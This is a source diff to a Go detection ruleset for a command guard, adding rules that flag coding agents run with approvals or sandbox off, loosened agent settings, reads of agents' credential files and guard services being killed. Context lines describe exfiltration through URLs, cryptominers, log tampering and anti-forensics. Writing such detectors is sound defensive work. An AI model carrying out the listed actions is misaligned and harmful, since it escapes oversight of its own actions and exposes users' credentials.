@@ -157,6 +157,9 @@ const (
 	rCollectStaging
 	rCollectDatabaseDump
 
+	// Coding agents' configuration changed (agentconfig.go).
+	rDefAgentConfig
+
 	// Commands run inside production workloads (infra.go), changes made
 	// to production (prodchange.go).
 	rInfraProdExec
@@ -287,7 +290,7 @@ var baseRules = [numRules]Rule{
 		"Runs a container with the host's root filesystem, /etc or the Docker socket mounted, --privileged, the host's process namespace or CAP_SYS_ADMIN, on a local or remote engine (LXD and Incus too), or drives the engine's API through its socket: root on the host. Pods given the same through kubectl, a manifest applied from standard input included. A Compose file written with the same (privileged, pid: host, a bind mount of /, /etc, /root or the engine's socket)."},
 
 	rCredSecretFile: {"credential.secret-file-read", CategoryCredentialAccess, high, escalate,
-		"Reads a credential store that is not private key material (cloud configs, registry and package tokens, kubeconfig, keyrings). Also mail and private messages (~/.thunderbird, ~/Maildir, Signal, Telegram Desktop, Element)."},
+		"Reads a credential store that is not private key material (cloud configs, registry and package tokens, kubeconfig, keyrings). Also mail and private messages (~/.thunderbird, ~/Maildir, Signal, Telegram Desktop, Element). Also coding agents' sign-ins (~/.codex/auth.json, ~/.claude/.credentials.json, ~/.gemini/oauth_creds.json)."},
 	rCredDotenv: {"credential.dotenv-read", CategoryCredentialAccess, medium, escalate,
 		"Reads a .env file or another project file named for secrets (config/secrets.yml, credentials.json, master.key), which hold secrets. Loading a .env file (source .env) or editing it in place (sed -i) shows no value and passes, unless the line also prints the environment (env, printenv, set, export -p, echo $VAR)."},
 	rCredSystemFile: {"credential.system-file-read", CategoryCredentialAccess, critical, block,
@@ -385,13 +388,13 @@ var ruleByID = func() map[string]ruleIndex {
 // familyRules are the rules of the families added with issue 12.
 var familyRules = map[ruleIndex]Rule{
 	rDefSecurityOff: {"defense.security-disable", CategoryDefenseImpairment, high, block,
-		"Turns off a security control: audit rules, SELinux / AppArmor, the firewall, ASLR or a security service; in a cluster, a security tool deleted or scaled to zero (falco, gatekeeper, kyverno, …), an admission webhook deleted, pod security set to privileged, the cluster's certificate check skipped; in a cloud or forge account, instance metadata opened to any request (IMDSv1), a security service or hub disabled, a repository's secret scanning, push protection or vulnerability alerts turned off."},
+		"Turns off a security control: audit rules, SELinux / AppArmor, the firewall, ASLR or a security service; in a cluster, a security tool deleted or scaled to zero (falco, gatekeeper, kyverno, …), an admission webhook deleted, pod security set to privileged, the cluster's certificate check skipped; in a cloud or forge account, instance metadata opened to any request (IMDSv1), a security service or hub disabled, a repository's secret scanning, push protection or vulnerability alerts turned off. Also a service or process named as a guard over what runs (agent-guard, cmd-gate, shellguard, shieldd) stopped or killed, or its rules file deleted or rewritten."},
 	rDefLogTamper: {"defense.log-tamper", CategoryDefenseImpairment, high, block,
 		"Stops a logging service, or erases or rotates away system logs and the journal; or turns off a cloud account's audit logging (CloudTrail stop-logging / delete-trail / narrowed update-trail, GuardDuty and AWS Config recorders, VPC flow logs, GCP log sinks and stored logs, Azure diagnostic settings). journalctl --vacuum-* counts only when it keeps less than a day, 32 MB or two files: keeping more is rotation."},
 	rDefHistory: {"defense.history-tamper", CategoryDefenseImpairment, medium, block,
 		"Clears or disables shell history (history -c, unset HISTFILE, HISTFILE=/dev/null, rm ~/.bash_history)."},
 	rDefAgentGuard: {"defense.agent-guard-off", CategoryDefenseImpairment, high, block,
-		"Runs an AI coding agent with its approvals or sandbox off (claude --dangerously-skip-permissions, gemini --yolo, codex --dangerously-bypass-approvals-and-sandbox, q chat --trust-all-tools, …), or writes the same into its settings (bypassPermissions, Bash(*), chat.tools.autoApprove): what it then does is judged by no one."},
+		"Runs an AI coding agent with its approvals or sandbox off (claude --dangerously-skip-permissions, gemini --yolo, codex --dangerously-bypass-approvals-and-sandbox, q chat --trust-all-tools, …), or writes the same into its settings (bypassPermissions, Bash(*), chat.tools.autoApprove): what it then does is judged by no one. Also the same turned off in an agent's settings file (bypassPermissions, chat.tools.autoApprove, yes-always, approval_policy \"never\", danger-full-access)."},
 	rDefAntiForensics: {"defense.anti-forensics", CategoryDefenseImpairment, medium, escalate,
 		"Hides activity: backdates a file outside the workspace (touch -r / -d / -t), erases git's reflog (reflog expire --expire=now), hides a file's changes from git (update-index --assume-unchanged / --skip-worktree), names a process after a kernel thread or daemon (exec -a) or runs a file named like one ([kworker/0:2]), runs a program from /dev/shm or from a directory named only with dots (...), or deletes a program right after running it. Also a file stamped with a system file's times (touch -r /bin/ls deploy.sh). Also a hidden program, or one in a hidden directory, run from /tmp or /var/tmp (/tmp/.x)."},
 	rDefReviewBypass: {"defense.review-bypass", CategoryDefenseImpairment, high, escalate,
@@ -453,6 +456,8 @@ var familyRules = map[ruleIndex]Rule{
 		"Puts the output of a command that reveals the machine, its user or its files into a URL for a host that is not trusted (curl http://host/$(whoami)): a GET carries data out as a POST does."},
 	rDisruptMiner: {"disruption.cryptominer", CategorySystemDisruption, high, block,
 		"Runs or sets up a cryptocurrency miner: a miner program, container image or package (xmrig and its kin, also renamed), a mining pool (stratum+tcp:// URL, pool host), a miner's options (--donate-level, --cpu-max-threads-hint, -a rx/0, a wallet address as the user), a miner configuration, image reference or in-browser miner script (coinhive, cryptoloot) in an argument or a file written: it takes the machine's CPU for someone else."},
+	rDefAgentConfig: {"defense.agent-config", CategoryDefenseImpairment, high, escalate,
+		"Changes a coding agent's configuration (Claude Code, Claude Desktop, Cursor, VS Code, Codex, Gemini, Aider, Windsurf, Continue, Zed, …) so that it asks less or runs more: the allow-list opened to programs that can do anything (Bash(curl:*)) or the deny-list emptied, a hook or notify command the agent runs by itself, an MCP server served from another host or run from a package of no known publisher (also claude mcp add). Approvals or the sandbox turned off in the settings are defense.agent-guard-off."},
 	rCollectStaging: {"collection.staging", CategoryCollection, high, escalate,
 		"Stages data where nobody looks: an archive, a dump or an encrypted or encoded blob written to /dev/shm or to a hidden name in /tmp, /var/tmp or the home's caches (tar czf /dev/shm/.x, split … /var/tmp/.p_, pg_dump | gzip > /tmp/.x/c.sql.gz), or data hidden in a picture (steghide embed, an archive appended to a JPEG, exiftool writing a file into a tag). Also another host's files copied into such a spot (rsync host:/var/lib/mysql/ /tmp/.db/)."},
 	rCollectDatabaseDump: {"collection.database-dump", CategoryCollection, high, escalate,
